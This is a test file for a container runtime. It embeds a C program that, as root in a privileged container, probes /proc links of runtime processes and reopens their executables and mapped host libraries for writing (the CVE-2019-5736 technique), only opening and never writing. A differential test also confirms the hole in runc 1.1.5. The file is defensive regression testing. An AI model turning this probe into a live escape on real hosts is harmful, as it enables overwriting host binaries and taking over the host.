// Issue 7, CVE-2019-5736 class: no runtime process that is in, or enters, a
// container exposes a writable host file. Each attack runs inside a
// container as root with every capability the host allows and no seccomp
// (as strong as a privileged container): CAP_SYS_PTRACE passes the
// non-dumpable check of /proc/<pid>/{exe,fd,cwd,root}, CAP_SYS_ADMIN opens
// /proc/<pid>/map_files. The attacker (a static C program, compiled here)
// never writes a byte: it opens for writing and closes, and reports the
// errno it got, so even a successful attack damages nothing.
//
// The runtime runs from private copies of the Node binary and of dist/:
// the original binary is always being executed by someone (this test
// runner, other tsrunc calls), which would answer ETXTBSY to any write open
// and hide whether the copy the container reached is protected; only the
// copy is free once the container's runtime processes are gone.
import t from 'tap';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { execa, execaSync, type Options, type ResultPromise } from 'execa';
import { CAPABILITIES } from '../src/config/capabilities.js';
import { nsexecArgs, planNamespaces } from '../src/namespaces.js';
import { BUSYBOX, makeBundle, makeRoot, type Bundle } from './helpers/bundle.js';
import { REPO_ROOT } from './helpers/run.js';

const ATTACK_C = String.raw`/*
 * The attacker, run inside the container as root with every capability.
 * It never writes a byte: it only opens for writing (and closes), so a
 * success proves the hole without damaging anything. One line per finding:
 *   KIND PID RESULT TYPE TARGET
 * KIND: exe map fd:N cwd root (through /proc/PID/...), exe-now and
 * exe-after (an O_PATH fd to an exe reopened at once, and once PID no longer
 * runs it), control-* (the same techniques on the container's own files).
 * DONE_FILE is created once everything is printed.
 * RESULT: opened (a write open worked), own (the container's own file: not
 * a finding), skip (not a file or directory), or the errno's name.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define NSFS_MAGIC 0x6e736673

static const char *ename(int e)
{
	switch (e) {
	case EROFS: return "EROFS";
	case ETXTBSY: return "ETXTBSY";
	case EACCES: return "EACCES";
	case EPERM: return "EPERM";
	case ENOENT: return "ENOENT";
	case ENXIO: return "ENXIO";
	case ESRCH: return "ESRCH";
	case EISDIR: return "EISDIR";
	case EINVAL: return "EINVAL";
	case EOPNOTSUPP: return "EOPNOTSUPP";
	case ELOOP: return "ELOOP";
	default: {
		static char buf[16];
		snprintf(buf, sizeof(buf), "E%d", e);
		return buf;
	}
	}
}

static const char *tname(mode_t m)
{
	if (S_ISREG(m)) return "reg";
	if (S_ISDIR(m)) return "dir";
	if (S_ISFIFO(m)) return "fifo";
	if (S_ISCHR(m)) return "chr";
	if (S_ISSOCK(m)) return "sock";
	return "other";
}

/*
 * Open for writing without writing, the very object the O_PATH fd holds (a
 * second lookup of /proc/PID/... could find another one): a regular file
 * reopened O_WRONLY, a directory by an unnamed O_TMPFILE in it (leaves nothing).
 */
static const char *try_write(int opath, mode_t m)
{
	char self[64];
	snprintf(self, sizeof(self), "/proc/self/fd/%d", opath);
	int fd = S_ISDIR(m) ? openat(opath, ".", O_TMPFILE | O_WRONLY | O_CLOEXEC, 0600) : open(self, O_WRONLY | O_CLOEXEC | O_NOCTTY);
	if (fd < 0)
		return ename(errno);
	close(fd);
	return "opened";
}

/* What the O_PATH fd holds, by name. */
static int held_name(int opath, char *target, size_t len)
{
	char self[64];
	snprintf(self, sizeof(self), "/proc/self/fd/%d", opath);
	ssize_t n = readlink(self, target, len - 1);
	if (n < 0)
		return -1;
	target[n] = '\0';
	return 0;
}

/* The link's target, if it names the same inode inside our own root, is the container's own. */
static int is_own(const char *target, const struct stat *st)
{
	struct stat own;
	return target[0] == '/' && stat(target, &own) == 0 && own.st_dev == st->st_dev && own.st_ino == st->st_ino;
}

/* The loop sees the same process many times: each finding once. */
static unsigned long long printed[16384];
static int nprinted;

static void report(const char *kind, int pid, const char *res, const char *type, const char *target)
{
	char line[4600];
	snprintf(line, sizeof(line), "%s %d %s %s %s", kind, pid, res, type, target);
	unsigned long long h = 1469598103934665603ULL;
	for (const char *c = line; *c; c++)
		h = (h ^ (unsigned char)*c) * 1099511628211ULL;
	for (int i = 0; i < nprinted; i++)
		if (printed[i] == h)
			return;
	if (nprinted < 16384)
		printed[nprinted++] = h;
	printf("%s\n", line);
}

static void probe(const char *kind, int pid, const char *link)
{
	char target[4096];
	int fd = open(link, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		if (errno != ENOENT && errno != ESRCH) /* gone */
			report(kind, pid, ename(errno), "-", link);
		return;
	}
	struct stat st;
	struct statfs sfs;
	if (held_name(fd, target, sizeof(target)) < 0 || fstat(fd, &st) < 0 || fstatfs(fd, &sfs) < 0) {
		close(fd);
		return;
	}
	const char *res;
	if (!S_ISREG(st.st_mode) && !S_ISDIR(st.st_mode))
		res = "skip";
	else if ((unsigned long)sfs.f_type == NSFS_MAGIC)
		res = "skip";
	else if (is_own(target, &st))
		res = "own";
	else
		res = try_write(fd, st.st_mode);
	close(fd);
	report(kind, pid, res, tname(st.st_mode), target);
}

static void probe_dir(const char *kind, int pid, const char *sub)
{
	char dir[64], path[4400];
	snprintf(dir, sizeof(dir), "/proc/%d/%s", pid, sub);
	DIR *d = opendir(dir);
	if (!d) {
		if (errno != ENOENT && errno != ESRCH) /* gone */
			report(kind, pid, ename(errno), "-", dir);
		return;
	}
	struct dirent *e;
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		char k[64];
		/* fd:N: fds 0-2 are the caller's stdio, the container's by design. */
		snprintf(k, sizeof(k), strcmp(kind, "fd") ? "%s" : "%s:%s", kind, e->d_name);
		probe(k, pid, path);
	}
	closedir(d);
}

/* Everything /proc/PID offers that leads to a file: exe, each mapping, each fd, cwd, root. */
static void probe_all(int pid)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	probe("exe", pid, path);
	probe_dir("map", pid, "map_files");
	probe_dir("fd", pid, "fd");
	snprintf(path, sizeof(path), "/proc/%d/cwd", pid);
	probe("cwd", pid, path);
	snprintf(path, sizeof(path), "/proc/%d/root", pid);
	probe("root", pid, path);
}

/* O_PATH fds to the exes we saw (not our own files), reopened for writing at the end: CVE-2019-5736 proper. */
#define MAX_KEPT 64
static struct {
	int fd, pid;
	dev_t dev;
	ino_t ino;
	char target[512];
} kept[MAX_KEPT];
static int nkept;

static void keep_exe(int pid)
{
	char link[64], target[512];
	snprintf(link, sizeof(link), "/proc/%d/exe", pid);
	int fd = open(link, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	struct stat st;
	if (held_name(fd, target, sizeof(target)) < 0 || fstat(fd, &st) < 0 || is_own(target, &st) || nkept == MAX_KEPT) {
		close(fd);
		return;
	}
	for (int i = 0; i < nkept; i++)
		if (kept[i].dev == st.st_dev && kept[i].ino == st.st_ino && !strcmp(kept[i].target, target)) {
			close(fd);
			return;
		}
	kept[nkept].fd = fd;
	kept[nkept].pid = pid;
	kept[nkept].dev = st.st_dev;
	kept[nkept].ino = st.st_ino;
	snprintf(kept[nkept].target, sizeof(kept[nkept].target), "%s", target);
	nkept++;
}

static void reopen_kept(const char *kind)
{
	for (int i = 0; i < nkept; i++)
		printf("%s %d %s reg %s\n", kind, kept[i].pid, try_write(kept[i].fd, S_IFREG), kept[i].target);
}

static int exists(const char *p)
{
	return access(p, F_OK) == 0;
}

static void msleep(int ms)
{
	struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
	nanosleep(&ts, NULL);
}

/*
 * The techniques work here at all: a mapping of a file of ours reopened for
 * writing through /proc/self/map_files, and the exe of a child running a
 * copy of a program, reopened through an O_PATH fd once the child is gone.
 */
static void controls(const char *victim)
{
	int fd = open("/tmp/control-mapped", O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0 || ftruncate(fd, 4096) < 0) {
		printf("control-map %d %s reg /tmp/control-mapped\n", getpid(), ename(errno));
	} else {
		void *p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
		close(fd);
		char path[128];
		snprintf(path, sizeof(path), "/proc/self/map_files/%lx-%lx", (unsigned long)p, (unsigned long)p + 4096);
		/* is_own would call it ours: that is the point, so try directly. */
		int mfd = open(path, O_PATH | O_CLOEXEC);
		printf("control-map %d %s reg /tmp/control-mapped\n", getpid(), mfd < 0 ? ename(errno) : try_write(mfd, S_IFREG));
		if (mfd >= 0)
			close(mfd);
		munmap(p, 4096);
	}
	pid_t c = fork();
	if (c == 0) {
		execl(victim, "sleep", "5", (char *)NULL); /* busybox: argv[0] picks the applet */
		_exit(127);
	}
	char link[64], target[256] = "";
	snprintf(link, sizeof(link), "/proc/%d/exe", c);
	for (int i = 0; i < 200; i++) {
		ssize_t n = readlink(link, target, sizeof(target) - 1);
		if (n > 0) {
			target[n] = '\0';
			if (!strcmp(target, victim))
				break;
		}
		msleep(5);
	}
	int ofd = open(link, O_PATH | O_CLOEXEC);
	kill(c, SIGKILL);
	waitpid(c, NULL, 0);
	printf("control-exe %d %s reg %s\n", (int)c, ofd < 0 ? ename(errno) : try_write(ofd, S_IFREG), victim);
	if (ofd >= 0)
		close(ofd);
}

/*
 * init DONE VICTIM STAGE GO: attack pid 1 of a created container (Node-init), say
 * so by creating STAGE, wait until pid 1 runs another program (start) and GO
 * exists (no runtime process left that runs that exe), reopen its old exe.
 */
static const char *done_file;

static int finish(int rc)
{
	fflush(stdout);
	close(open(done_file, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	return rc;
}

static int cmd_init(const char *victim, const char *stage, const char *go)
{
	controls(victim);
	char before[512] = "", now[512];
	ssize_t n = readlink("/proc/1/exe", before, sizeof(before) - 1);
	if (n > 0)
		before[n] = '\0';
	keep_exe(1);
	reopen_kept("exe-now");
	probe_all(1);
	fflush(stdout);
	close(open(stage, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	for (int i = 0; i < 3000; i++) {
		n = readlink("/proc/1/exe", now, sizeof(now) - 1);
		if (n > 0) {
			now[n] = '\0';
			if (strcmp(now, before))
				break;
		}
		msleep(10);
	}
	for (int i = 0; i < 3000 && !exists(go); i++)
		msleep(10);
	printf("pid1-now 1 - - %s\n", now);
	reopen_kept("exe-after");
	return finish(0);
}

/*
 * loop DONE STOP_FILE: until STOP_FILE exists, attack every other process that
 * appears in our pid namespace (those a tsrunc exec brings in).
 */
static int cmd_loop(const char *stop)
{
	char seen[4096] = "";
	int self = getpid();
	/* Our own processes (pid 1, ourselves) are not the target: probe only pids that appear later. */
	int baseline[64], nb = 0;
	DIR *d = opendir("/proc");
	struct dirent *e;
	while (d && (e = readdir(d)) && nb < 64)
		if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
			baseline[nb++] = atoi(e->d_name);
	if (d)
		closedir(d);
	close(open("/tmp/loop-ready", O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	while (!exists(stop)) {
		d = opendir("/proc");
		if (!d)
			return 1;
		while ((e = readdir(d))) {
			if (e->d_name[0] < '1' || e->d_name[0] > '9')
				continue;
			int pid = atoi(e->d_name), old = 0;
			for (int i = 0; i < nb; i++)
				old |= baseline[i] == pid;
			if (old || pid == self)
				continue;
			keep_exe(pid);
			probe_all(pid);
			char tag[16];
			snprintf(tag, sizeof(tag), " %d ", pid);
			if (!strstr(seen, tag) && strlen(seen) + strlen(tag) < sizeof(seen))
				strcat(seen, tag);
		}
		closedir(d);
	}
	/* Every exe we kept is no longer executed by the runtime process that showed it. */
	reopen_kept("exe-after");
	printf("seen 0 - - %s\n", seen);
	return finish(0);
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 3)
		return 2;
	done_file = argv[2];
	if (argc == 6 && !strcmp(argv[1], "init"))
		return cmd_init(argv[3], argv[4], argv[5]);
	if (argc == 4 && !strcmp(argv[1], "loop"))
		return cmd_loop(argv[3]);
	fprintf(stderr, "usage: attack init DONE VICTIM STAGE GO | attack loop DONE STOP\n");
	return 2;
}
`;

const RUNC = '/usr/sbin/runc';
const hasCc = execaSync('cc', ['--version'], { reject: false }).exitCode === 0;
const work = fs.mkdtempSync(path.join('/var/tmp', 'tsr-hardening-exe-'));
const root = makeRoot();
const runcRoot = makeRoot();
t.teardown(() => {
  for (const d of [root, runcRoot, work]) fs.rmSync(d, { recursive: true, force: true });
});

// The runtime under attack: a copy of Node running a copy of dist/.
const NODE = path.join(work, 'node');
const DIST = path.join(work, 'dist');
fs.copyFileSync(process.execPath, NODE);
fs.chmodSync(NODE, 0o755);
fs.mkdirSync(DIST);
for (const f of fs.readdirSync(path.join(REPO_ROOT, 'dist'))) {
  const src = path.join(REPO_ROOT, 'dist', f);
  if (fs.statSync(src).isFile() && !f.endsWith('.map')) fs.copyFileSync(src, path.join(DIST, f));
}
fs.chmodSync(path.join(DIST, 'tsrunc-nsexec'), 0o755);
const ATTACK = path.join(work, 'attack');
if (hasCc) {
  fs.writeFileSync(`${ATTACK}.c`, ATTACK_C);
  execaSync('cc', ['-O2', '-static', '-o', ATTACK, `${ATTACK}.c`]);
}

/**
 * Every file a runtime process here maps or runs: none may change. (Not the
 * repo's dist/: the runtime under attack does not run it, and other builds
 * may replace it meanwhile.)
 */
function watched(): string[] {
  const files = [NODE, process.execPath, RUNC];
  for (const f of fs.readdirSync(DIST)) files.push(path.join(DIST, f));
  // The libraries Node maps (this process maps the same ones).
  for (const line of fs.readFileSync('/proc/self/maps', 'utf8').split('\n')) {
    const f = line.split(/\s+/)[5];
    if (f?.startsWith('/') && /\.so/.test(f)) files.push(f);
  }
  return [...new Set(files)].filter((f) => fs.existsSync(f));
}
const sums = (files: string[]): Record<string, string> =>
  Object.fromEntries(files.map((f) => [f, createHash('sha256').update(fs.readFileSync(f)).digest('hex')]));
const before = sums(watched());
const unchanged = (t: any): void => t.same(sums(Object.keys(before)), before, `${Object.keys(before).length} runtime files: sha256 as before`);

// A privileged container: every capability in the host's bounding set (the
// rest cannot be granted), no seccomp, a writable rootfs for the reports.
const hostBounding = BigInt(`0x${/^CapBnd:\s*([0-9a-f]+)/m.exec(fs.readFileSync('/proc/self/status', 'utf8'))![1]}`);
const ALL_CAPS = CAPABILITIES.filter((_, i) => (hostBounding >> BigInt(i)) & 1n);

let seq = 0;
const newId = (): string => `tsr-hx-${process.pid}-${++seq}`;

/** The runtime under attack, or a runc copy for the differential. */
function rt(args: string[], opts: Record<string, unknown> = {}, runc?: string): ResultPromise {
  const [bin, pre, r] = runc ? [runc, [], runcRoot] : [NODE, [path.join(DIST, 'tsrunc.cjs')], root];
  const io = opts.stdio ? {} : { stdin: 'ignore' };
  return execa(bin, [...pre, '--root', r, ...args], { reject: false, ...io, ...opts } as Options) as unknown as ResultPromise;
}

/**
 * create, run -d, exec -d leave a process holding stdio: a file, so nothing
 * waits for EOF, and no runtime process (running the Node copy) stays.
 * Returns the file.
 */
async function detached(args: string[], runc?: string): Promise<string> {
  const f = path.join(work, `out.${++seq}`);
  const fd = fs.openSync(f, 'w+');
  try {
    const r = await rt(args, { stdio: ['ignore', fd, fd] }, runc);
    if (r.exitCode !== 0) throw new Error(`${args[0]}: ${fs.readFileSync(f, 'utf8')}`);
  } finally {
    fs.closeSync(fd);
  }
  return f;
}

/** The attacker, detached: its report is its stdout, complete once it made DONE in the container's /tmp. */
async function launchAttacker(id: string, b: Bundle, args: string[], runc?: string): Promise<() => Promise<string>> {
  const out = await detached(['exec', '-d', id, '/attack', args[0]!, '/tmp/done', ...args.slice(1)], runc);
  return async () => {
    if (!(await waitFor(path.join(b.rootfs, 'tmp', 'done'), 60_000, () => false))) throw new Error(`the attacker did not finish: ${fs.readFileSync(out, 'utf8')}`);
    return fs.readFileSync(out, 'utf8');
  };
}

/** The container `id` is deleted before its bundle goes, even when the test fails. */
function privileged(t: any, id: string, runc?: string): Bundle {
  const b = makeBundle((c) => {
    c.process.capabilities = { bounding: ALL_CAPS, effective: ALL_CAPS, permitted: ALL_CAPS, ambient: ALL_CAPS };
    c.process.noNewPrivileges = false;
    c.root.readonly = false;
    delete c.linux.seccomp;
  }, ['sleep', '1000']);
  t.teardown(async () => {
    await rt(['delete', '-f', id], {}, runc);
    b.remove();
  });
  fs.copyFileSync(ATTACK, path.join(b.rootfs, 'attack'));
  fs.chmodSync(path.join(b.rootfs, 'attack'), 0o755);
  // The exe control runs a copy of busybox: the container's own, free to write.
  fs.copyFileSync(BUSYBOX, path.join(b.rootfs, 'tmp', 'victim'));
  fs.chmodSync(path.join(b.rootfs, 'tmp', 'victim'), 0o755);
  return b;
}

interface Finding {
  kind: string;
  pid: number;
  result: string;
  type: string;
  target: string;
}
const parse = (out: string): Finding[] =>
  out
    .split('\n')
    .filter(Boolean)
    .map((l) => {
      const [kind, pid, result, type, ...target] = l.split(' ');
      return { kind: kind!, pid: Number(pid), result: result!, type: type!, target: target.join(' ') };
    });
const show = (found: Finding[]): string => found.map((f) => `${f.kind} ${f.pid} ${f.result} ${f.type} ${f.target}`).join('\n');

/** fds 0-2: the caller's stdio (here this test's files), the container's by design. */
const isStdio = (f: Finding): boolean => /^fd:[012]$/.test(f.kind);
/**
 * Write opens that worked on something neither the container's own (the
 * attacker calls those "own"), nor stdio, nor a sealed anonymous copy (a
 * memfd: no host file behind it).
 */
const breaches = (found: Finding[]): Finding[] =>
  found.filter((f) => f.result === 'opened' && !f.kind.startsWith('control') && !isStdio(f) && !f.target.startsWith('/memfd:'));

async function waitFor(file: string, ms: number, gaveUp: () => boolean): Promise<boolean> {
  const end = Date.now() + ms;
  while (Date.now() < end && !gaveUp()) {
    if (fs.existsSync(file)) return true;
    await new Promise((r) => setTimeout(r, 20));
  }
  return fs.existsSync(file);
}

/**
 * A created (not started) container; the attacker is exec'd into it and
 * attacks pid 1, the runtime's Node-init waiting on the exec fifo; then
 * start, and the attacker reopens pid 1's old exe once nothing runs it.
 */
async function attackCreated(t: any, runc?: string): Promise<Finding[]> {
  const id = newId();
  const b = privileged(t, id, runc);
  await detached(['create', '-b', b.dir, id], runc);
  const tmp = path.join(b.rootfs, 'tmp');
  const report = await launchAttacker(id, b, ['init', '/tmp/victim', '/tmp/stage', '/tmp/go'], runc);
  if (await waitFor(path.join(tmp, 'stage'), 30_000, () => fs.existsSync(path.join(tmp, 'done')))) {
    const s = await rt(['start', id], {}, runc);
    t.equal(s.exitCode, 0, `start: ${s.stderr}`);
    // Only now is no runtime process left running the Node copy.
    fs.writeFileSync(path.join(tmp, 'go'), '');
  }
  const found = parse(await report());
  t.comment(show(found));
  // The techniques work in this container at all (else a pass would prove nothing).
  t.equal(found.find((f) => f.kind === 'control-map')?.result, 'opened', 'control: a mapping of its own file reopens for writing through map_files');
  t.equal(found.find((f) => f.kind === 'control-exe')?.result, 'opened', 'control: an O_PATH /proc/<pid>/exe of its own program reopens for writing once unused');
  return found;
}

const noCc = !hasCc && 'no C compiler (cc) for the static attacker';

t.test('nsexec argv: the seal flags come before any join, the root fd only with --seal', async (t) => {
  const plan = planNamespaces([{ type: 'pid', path: '/proc/1/ns/pid' }, { type: 'mount' }]);
  t.same(nsexecArgs(plan, 5, ['/node'], { seal: true, sealSelf: true, rootFd: 6 }).slice(0, 6), ['--sync-fd', '5', '--seal-self', '--seal', '--root-fd', '6']);
  t.notMatch(nsexecArgs(plan, 5, ['/node'], { rootFd: 6 }).join(' '), /--seal|--root-fd/);
});

t.test('create: /proc/1/exe of Node-init, reopened for writing at once and after start', { skip: noCc }, async (t) => {
  const found = await attackCreated(t);
  const now = found.find((f) => f.kind === 'exe-now');
  t.equal(now?.target, NODE, 'an O_PATH fd to /proc/1/exe: the runtime\'s Node binary');
  t.not(now?.result, 'opened', `not writable while Node-init runs it (${now?.result})`);
  t.match(found.find((f) => f.kind === 'pid1-now')?.target ?? '', /busybox/, 'pid 1 then runs the container\'s program');
  // Nothing runs the copy any more: only a read-only mount stops the write.
  t.equal(found.find((f) => f.kind === 'exe-after')?.result, 'EROFS', 'after start, the same fd reopened for writing: EROFS');
  t.same(breaches(found), [], 'nothing outside the container opened for writing');
  unchanged(t);
});

t.test('create: /proc/1/map_files of Node-init', { skip: noCc }, async (t) => {
  const found = await attackCreated(t);
  const maps = found.filter((f) => f.kind === 'map' && f.pid === 1 && f.type === 'reg');
  const mapped = (re: RegExp): Finding | undefined => maps.find((f) => re.test(f.target));
  t.equal(mapped(/\/node$/)?.target, NODE, 'the Node binary is among the mappings');
  t.equal(mapped(/koffi\.node$/)?.result, 'EROFS', 'dist/koffi.node: EROFS');
  t.equal(mapped(/\/libc\.so/)?.result, 'EROFS', 'the host\'s libc: EROFS');
  for (const f of maps) t.ok(f.result === 'EROFS' || (f.result === 'ETXTBSY' && f.target === NODE), `${f.target}: ${f.result}`);
  t.same(breaches(found), [], 'nothing outside the container opened for writing');
  unchanged(t);
});

t.test('create: /proc/1/fd, cwd and root of Node-init lead to no writable host file or directory', { skip: noCc }, async (t) => {
  const found = await attackCreated(t);
  const fds = found.filter((f) => f.kind.startsWith('fd:') && f.pid === 1);
  t.ok(fds.length >= 3, `the fds were listed (${fds.length})`);
  t.comment(`Node-init's fds: ${fds.map((f) => `${f.kind.slice(3)}=${f.type}:${f.result}:${f.target}`).join(', ')}`);
  // Regular files and directories (pipes, sockets, the exec fifo, anon inodes are no host files),
  // past the caller's stdio (here files of this test: the container's stdout by design).
  const own = fds.filter((f) => !isStdio(f) && (f.type === 'reg' || f.type === 'dir'));
  for (const f of own) t.not(f.result, 'opened', `fd ${f.kind.slice(3)} ${f.target}: ${f.result}`);
  for (const k of ['cwd', 'root']) {
    const f = found.find((f) => f.kind === k && f.pid === 1);
    t.ok(f && f.result !== 'opened', `/proc/1/${k}: ${f?.result} ${f?.target}`);
  }
  t.same(breaches(found), [], 'nothing outside the container opened for writing');
  unchanged(t);
});

t.test('exec: every /proc/<pid> link of a second exec\'s helper and Node-init', { skip: noCc }, async (t) => {
  const id = newId();
  const b = privileged(t, id);
  await detached(['run', '-d', '-b', b.dir, id]);
  const tmp = path.join(b.rootfs, 'tmp');
  const report = await launchAttacker(id, b, ['loop', '/tmp/stop']);
  t.ok(await waitFor(path.join(tmp, 'loop-ready'), 30_000, () => fs.existsSync(path.join(tmp, 'done'))), 'the attacker scans /proc');
  // Each exec brings a helper and a Node-init into the container's pid namespace.
  for (let i = 0; i < 8; i++) {
    const r = await rt(['exec', id, '/bin/true']);
    t.equal(r.exitCode, 0, `exec ${i}: ${r.stderr}`);
  }
  fs.writeFileSync(path.join(tmp, 'stop'), '');
  const found = parse(await report());
  t.comment(show(found.filter((f) => f.result !== 'own' && f.result !== 'skip')));
  const node = found.filter((f) => (f.kind === 'map' || f.kind === 'exe') && f.target === NODE);
  // Else the race was never won and a pass would prove nothing.
  t.ok(node.length > 0, 'the attacker caught an exec\'s Node-init (its exe or its mapping of Node)');
  for (const f of node) t.ok(f.result === 'EROFS' || f.result === 'ETXTBSY', `${f.kind} of pid ${f.pid}: ${f.result}`);
  const after = found.find((f) => f.kind === 'exe-after' && f.target === NODE);
  if (after) t.equal(after.result, 'EROFS', 'the Node binary, reopened once no exec runs it: EROFS');
  t.comment(`helper exes seen: ${JSON.stringify([...new Set(found.filter((f) => f.kind === 'exe' && /nsexec/.test(f.target)).map((f) => f.target))])}`);
  t.same(breaches(found).map(show1), [], 'nothing outside the container opened for writing');
  unchanged(t);
});
const show1 = (f: Finding): string => `${f.kind} ${f.pid} ${f.type} ${f.target}`;

// Differential, on a copy of runc (never /usr/sbin/runc itself): Debian's runc
// 1.1.5 runs its init from a memfd copy of itself (its exe is safe), but that
// init maps libc and libseccomp from the host while it waits on the exec fifo.
const runcVersion = fs.existsSync(RUNC) ? /runc version (\S+)/.exec(execaSync(RUNC, ['--version'], { reject: false }).stdout)?.[1] : undefined;
const runcSkip = !runcVersion ? 'runc is not installed' : !runcVersion.startsWith('1.1.5') && `documents runc 1.1.5, this is ${runcVersion}`;
t.test('differential: runc 1.1.5 (a copy) under the same attacker', { skip: noCc || runcSkip }, async (t) => {
  const runc = path.join(work, 'runc');
  fs.copyFileSync(RUNC, runc);
  fs.chmodSync(runc, 0o755);
  const found = await attackCreated(t, runc);
  const open = breaches(found).filter((f) => f.kind === 'map');
  t.comment(`runc init's mappings opened for writing from inside: ${JSON.stringify([...new Set(open.map((f) => f.target))])}`);
  t.ok(open.some((f) => /\/lib[^/]*\.so/.test(f.target)), 'runc 1.1.5: a host library is writable through /proc/1/map_files of its init (the attack is real)');
  unchanged(t);
});

// Last: every attack above, failed or not, left the host's files as they were.
t.test('the binaries and libraries the runtime maps are unchanged', async (t) => {
  unchanged(t);
});
